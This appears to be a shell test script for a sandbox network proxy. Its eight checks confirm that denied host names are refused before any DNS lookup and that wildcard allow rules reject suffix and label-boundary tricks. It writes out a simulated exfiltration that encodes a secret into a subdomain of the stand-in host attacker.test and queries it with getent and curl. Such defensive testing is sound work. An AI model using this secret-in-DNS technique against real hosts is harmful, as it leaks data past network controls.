#!/bin/sh
# The policy is decided before any DNS lookup (N4): a refused
# name never reaches a resolver. The proxy logs every lookup it starts with
# -d; an allowed name in the same run shows that the log line exists.
# Wildcard boundaries (N10) are refused before any lookup too.
. "$(dirname "$0")/lib.sh"
. "$TESTDIR/net-lib.sh"
plan 8

if ! command -v bwrap >/dev/null 2>&1 || ! command -v curl >/dev/null 2>&1; then
	for i in $(seq 8); do skip "bwrap or curl missing"; done
	exit 0
fi
net_server http WEB
S=$(net_settings "[\"localhost:$WEB_PORT\",\"*.example.com\"]" '[]')
secret=$(printf 's3cr3t' | base64 | tr -d '=\n' | tr 'A-Z' 'a-z')
srt__run -d --settings "$S" -c "
	getent hosts $secret.x.attacker.test; echo getent=\$?
	$CURLP -o /dev/null https://$secret.x.attacker.test/; echo curl=\$?
	$CURLP -o /dev/null -w '%{http_code}\n' http://localhost:$WEB_PORT/control" >"$WORK/out" 2>"$WORK/err"
check "N4: resolving inside the sandbox fails (no resolver reachable)" grep -q '^getent=[1-9]' "$WORK/out"
check "N4: the proxy refuses the name" grep -q "deny network-outbound $secret.x.attacker.test:443 (host is not on the allow list)" "$WORK/err"
check "N4: the proxy never looked the refused name up" sh -c "! grep -q 'resolving.*attacker' '$WORK/err'"
check "control: an allowed name is looked up and logged" grep -q "srt-proxy: resolving localhost" "$WORK/err"
check "control: the allowed request got through" grep -q "^GET /control " "$WEB_LOG"

# N10: only strict subdomains match "*.example.com"; all refused before DNS
srt__run -d --settings "$S" -c "
	for h in example.com.evil.test evilexample.com example.com; do
		$CURLP -o /dev/null -w \"\$h %{http_code}\n\" http://\$h/
	done" >"$WORK/out" 2>"$WORK/err"
check "N10: suffix and label-boundary tricks refused" \
	grep -q '^example.com.evil.test 403' "$WORK/out" && grep -q '^evilexample.com 403' "$WORK/out"
check "N10: the apex is not matched by *.example.com (documented)" grep -q '^example.com 403' "$WORK/out"
check "N10: no lookup for any of them" sh -c "! grep -q 'srt-proxy: resolving' '$WORK/err'"
